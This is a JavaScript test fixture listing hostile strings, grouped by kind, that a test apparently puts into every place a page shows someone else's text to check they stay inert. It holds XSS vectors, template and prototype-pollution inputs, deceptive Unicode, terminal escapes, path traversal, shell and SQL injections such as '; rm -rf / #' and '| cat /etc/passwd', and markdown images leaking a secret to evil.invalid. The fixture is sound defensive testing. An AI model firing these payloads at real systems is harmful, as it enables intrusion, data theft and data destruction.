// Texts that want to run as code, to hide something, or to break the layout. The test in tests/hostile.test.mjs puts each of
// them in every place where the page shows a text of somebody else. Each group says what its texts must not do; what is
// checked is the same for all of them.

const repeat = (text, times) => text.repeat(times);

/** @type {{ name: string, mustNot: string, texts: string[] }[]} */
export const GROUPS = [
  {
    name: "markup that runs scripts",
    mustNot: "become elements, or run",
    texts: [
      "<script>alert(1)</script>",
      "<script src=//evil.invalid/x.js></script>",
      "<script type=module>self.hacked=1</script>",
      "</script><script>self.hacked=1</script>",
      "<SCRIPT>alert(1)</SCRIPT>",
      "<scr<script>ipt>alert(1)</scr</script>ipt>",
      "<script\u00a0>alert(1)</script>",
      "<img src=x onerror=alert(1)>",
      "<img src=x onerror=self.hacked=1 ",
      "<IMG SRC=//evil.invalid/pixel.png>",
      "\"><img src=x onerror=alert(1)>",
      "'><img src=x onerror=alert(1)>",
      "`><img src=x onerror=alert(1)>",
      "</title><script>alert(1)</script>",
      "</textarea><script>alert(1)</script>",
      "</style><script>alert(1)</script>",
      "</pre></div></dialog><script>alert(1)</script>",
      "<iframe srcdoc='<script>parent.hacked=1</script>'>",
      "<iframe src=javascript:alert(1)>",
      "<object data=//evil.invalid/x>",
      "<embed src=javascript:alert(1)>",
      "<video src=x onerror=alert(1)>",
      "<audio src onerror=alert(1)>",
      "<body onload=alert(1)>",
      "<details open ontoggle=alert(1)>x</details>",
      "<input autofocus onfocus=alert(1)>",
      "<marquee onstart=alert(1)>x</marquee>",
      "<form action=javascript:alert(1)><button>x</button></form>",
      "<button popovertarget=x onclick=alert(1)>Approve</button>",
      "<base href=//evil.invalid/>",
      "<meta http-equiv=refresh content=\"0;url=//evil.invalid/\">",
      "<link rel=stylesheet href=//evil.invalid/x.css>",
      "<template><script>alert(1)</script></template>",
      "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
      "<!--><script>alert(1)</script>-->",
      "<![CDATA[<script>alert(1)</script>]]>",
      "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]><x>&y;</x>",
      "<x-y is=script onpointerenter=alert(1)>hover</x-y>",
    ],
  },
  {
    name: "drawings and formulas",
    mustNot: "become elements, or run",
    texts: [
      "<svg onload=alert(1)>",
      "<svg><script>alert(1)</script></svg>",
      "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
      "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
      "<svg><use href=\"data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x\">",
      "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
      "<svg><image href=//evil.invalid/x.png>",
      "<svg><style>*{display:none}</style></svg>",
      "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
      "<math><a href=javascript:alert(1)>x</a></math>",
    ],
  },
  {
    name: "addresses that run code or lead away",
    mustNot: "become links, or be asked for",
    texts: [
      "javascript:alert(1)",
      "JaVaScRiPt:alert(1)",
      "java\tscript:alert(1)",
      "javascript://%0aalert(1)",
      "vbscript:msgbox(1)",
      "data:text/html,<script>alert(1)</script>",
      "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
      "blob:https://evil.invalid/1",
      "//evil.invalid/x",
      "https://evil.invalid/login?return=x",
      "http://user:password@evil.invalid:80/x",
      "\\\\evil.invalid\\share",
      "file:///etc/passwd",
      "<a href=javascript:alert(1)>Approve once</a>",
      "view-source:http://127.0.0.1/",
    ],
  },
  {
    name: "templates",
    mustNot: "be evaluated, or become a component",
    texts: [
      "${alert(1)}",
      "`${alert(1)}`",
      "{{constructor.constructor('alert(1)')()}}",
      "{{7*7}}",
      "<${Dialog} title=x><//>",
      "<//>",
      "...${{dangerouslySetInnerHTML:{__html:'<img src=x onerror=alert(1)>'}}}",
      "{\"type\":\"img\",\"props\":{\"src\":\"x\",\"onerror\":\"alert(1)\"},\"constructor\":null}",
      "{\"__html\":\"<img src=x onerror=alert(1)>\"}",
      "html`<img src=x onerror=${() => alert(1)}>`",
      "<%= alert(1) %>",
      "#{alert(1)}",
      "{% include '/etc/passwd' %}",
      "[[${alert(1)}]]",
      "$$$&$'$`$1",
      "%s%d%n%x%c",
    ],
  },
  {
    name: "names of properties",
    mustNot: "change a prototype, or be taken for a value that the page has",
    texts: [
      "__proto__", "constructor", "prototype", "toString", "valueOf", "hasOwnProperty", "__defineGetter__", "__proto__.polluted", "constructor.prototype.polluted",
      "__proto__[polluted]=1", "{\"__proto__\":{\"polluted\":1}}", "{\"constructor\":{\"prototype\":{\"polluted\":1}}}", "then", "length", "children", "key", "ref", "props", "type",
      "innerHTML", "parentNode", "undefined", "null", "NaN", "true", "0", "-1", "[object Object]", "Symbol(x)", "function(){}",
    ],
  },
  {
    name: "direction of text",
    mustNot: "turn around the text beside it",
    texts: [
      "\u202Egnp.exe", "\u202Dabc\u202C", "\u202Aabc", "\u202Babc", "\u2066abc", "\u2067abc", "\u2068abc\u2069", "\u061Cabc", "\u200Fabc\u200E",
      "a\u202Eb\u202Dc\u202Cd", "access_level = \"user\u202E \u2066// only admins\u2069 \u2066\"", "/src/\u202Eyp.terces", repeat("مرحبا ", 40), "שלום abc 123 (x) שלום", "report\u202Efdp.sh",
    ],
  },
  {
    name: "characters that are not seen",
    mustNot: "hide: each is shown by its number",
    texts: [
      "\u200B\u200B\u200B", "ad\u200Bmin", "pay\u200Cpal", "x\u200Dy", "\uFEFFx", "so\u00ADft", "\u2060x\u2061y\u2062z\u2063", "\u115F\u1160", "\u3164", "\uFFA0x",
      "\u{E0041}\u{E0042}\u{E0043}", "x\uFE0F\uFE0F", "\u180Ex", "\uFFF9a\uFFFAb\uFFFB", "\u17B4\u17B5x", "\u{E0100}x",
    ],
  },
  {
    name: "long words and many lines",
    mustNot: "make the page wider than the screen, or push its buttons away",
    texts: [
      repeat("A", 5_000), repeat("W", 150), repeat("aVeryLongIdentifier", 30), `https://evil.invalid/${repeat("x", 2_000)}`, repeat("🏴‍☠️", 200), repeat("漢字", 400), repeat(".", 1_000), repeat("_", 1_000),
      repeat("a ", 1_500), repeat("\t", 40) + "far", repeat(" ", 300) + "far", repeat("line\n", 400), repeat("<", 600), repeat("👩‍👩‍👧‍👦", 60), repeat("ﷺ", 120), repeat("𒐫", 120),
    ],
  },
  {
    name: "stacked marks",
    mustNot: "cover the lines above and below",
    texts: [
      `Z${repeat("\u0321\u0337\u0315\u035C\u0344", 12)}algo`, repeat(`a${repeat("\u0301", 30)}`, 12), repeat("o\u20DD\u20E0", 20), repeat("ก\u0E49\u0E49\u0E49\u0E49\u0E49\u0E49\u0E49\u0E49\u0E49\u0E49", 8), repeat("\u0F40\u0F90\u0FB5\u0F71\u0F84", 10),
      `x${repeat("\u0489", 50)}`, repeat("\u0300", 100), `e${repeat("\u0363", 200)}`,
    ],
  },
  {
    name: "control characters",
    mustNot: "hide: each is shown by its number",
    texts: [
      "a\u0000b", "a\u0008\u0008b", "a\u007Fb", "safe\rrm -rf /", "a\u000Bb\u000Cc", "a\u0085b", "a\u2028b\u2029c", "a\u009B31mb", "\u0001\u0002\u0003\u0004", "\u001A", "a\r\nb\r\nc", "a\u001Cb\u001Db\u001Eb\u001Fb", "\u0007\u0007",
    ],
  },
  {
    name: "escapes of terminals",
    mustNot: "colour, move, link, set a title or a clipboard, or answer",
    texts: [
      "\u001b[31mred\u001b[0m", "\u001b]0;owned\u0007", "\u001b]2;owned\u001b\\", "\u001b]8;;https://evil.invalid/\u0007Approve\u001b]8;;\u0007", "\u001b]8;;javascript:alert(1)\u001b\\x\u001b]8;;\u001b\\",
      "\u001b]52;c;cm0gLXJmIC8=\u0007", "\u001b[2J\u001b[H", "\u001b[?1049h", "\u001b[1A\u001b[2Koverwritten", "\u001b[6n", "\u001b[c", "\u001bP0;0;0q\"1;1;99999;99999#0~\u001b\\", "\u001b_Gf=100;AAAA\u001b\\", "\u001b^x\u001b\\",
      "\u001b[?1000h", "\u001b[?2004h", "\u001bc", "\u001b]1337;File=inline=1:AAAA\u0007", "\u001b[8m hidden \u001b[0m", "\u001b[99999;99999H far away", "\u001b[99999b", "\u001b]4;1;rgb:ff/00/00\u0007", "\u001b(0lqqk\u001b(B", "\u001b]777;notify;title;text\u0007",
    ],
  },
  {
    name: "styles",
    mustNot: "style anything",
    texts: [
      "<style>*{display:none}</style>", "</style><style>body{background:url(//evil.invalid/x)}</style>", "x;} body{display:none} .y{", "red;background:url(//evil.invalid/x)", "expression(alert(1))", "@import url(//evil.invalid/x.css);",
      "url('javascript:alert(1)')", "position:fixed;inset:0;z-index:99999;background:red", "<div style=\"position:fixed;inset:0\">x</div>", "\\3c script\\3e", "--page:red", "button primary", "class=\"button primary\"",
    ],
  },
  {
    name: "diffs within diffs",
    mustNot: "be taken for the diff's own lines: what is shown is what happens",
    texts: [
      "--- a/x\n+++ b/y\n@@ -1 +1 @@\n-a\n+b", "diff --git a/safe.txt b/safe.txt", "+++ b/safe.txt", "--- /dev/null", "@@ -0,0 +1,999999 @@", "@@ -1 +1 @@ </script>", "\\ No newline at end of file", "\\ moved /etc/passwd to /safe.txt",
      "moved /a to /b", "removed /safe.txt", "new /safe.txt (0 bytes)", "<<<<<<< ours\nx\n=======\ny\n>>>>>>> theirs", "-\n+\n \nx", "Binary files a/x and b/x differ", "rename from /a\nrename to /b",
    ],
  },
  {
    name: "ends of strings",
    mustNot: "end the string that they are in",
    texts: [
      "\"", "'", "`", "\\", "\\\"", "\"}", "\"},{\"x\":\"", "\u2028\"", "']});alert(1);//", "*/alert(1)/*", "-->", "]]>", "\\u0022", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "'-alert(1)-'", "\";alert(1);//", "\\n\\n\\n",
    ],
  },
  {
    name: "Markdown",
    mustNot: "become images or links",
    texts: [
      "![x](//evil.invalid/x.png)", "![x](https://evil.invalid/?q=secret)", "[Approve](javascript:alert(1))", "[x]: //evil.invalid/\n[x]", "<https://evil.invalid/>", "# Heading\n\n- list\n\n> quote", "[![x](//evil.invalid/a.png)](//evil.invalid/)", "```html\n<script>alert(1)</script>\n```",
      "<!-- hidden instruction -->", "[](//evil.invalid/)", "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | x |", "$\\href{javascript:alert(1)}{x}$",
    ],
  },
  {
    name: "encodings",
    mustNot: "be decoded",
    texts: [
      "%3Cscript%3Ealert(1)%3C/script%3E", "%253Cscript%253E", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;img src=x onerror=alert(1)&#62;", "&#x3C;script&#x3E;", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E", "%00", "%zz", "%E0%A4%A",
      "%c0%ae%c0%ae/", "xn--pple-43d.invalid", "аррӏе.invalid", "\uFFFD\uFFFE", "=?utf-8?B?PHNjcmlwdD4=?=", "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    ],
  },
  {
    name: "addresses of the page",
    mustNot: "lead to another place of the page, or out of the workspace",
    texts: [
      "#/inbox", "#/w/x/timeline", "#code=abc", "#code=abc&to=%2Finbox", "?x=1#/settings", "../../../etc/passwd", "..%2f..%2f", "/api/v1/auth/logout", "a#b?c&d=e", "x/../y", "....//....//", "C:\\Windows\\System32", "timeline", "undo", "inbox/../settings", ";jsessionid=1", "x.chat", "~root",
    ],
  },
  {
    name: "code of shells and databases",
    mustNot: "be run",
    texts: ["$(touch hacked)", "`touch hacked`", "; rm -rf / #", "| cat /etc/passwd", "-rf", "--help", "' OR 1=1 --", "\"; DROP TABLE steps; --", "*", "~/.ssh/id_rsa", "!!", "%PATH%"],
  },
];

export const PAYLOADS = GROUPS.flatMap((group) => group.texts);
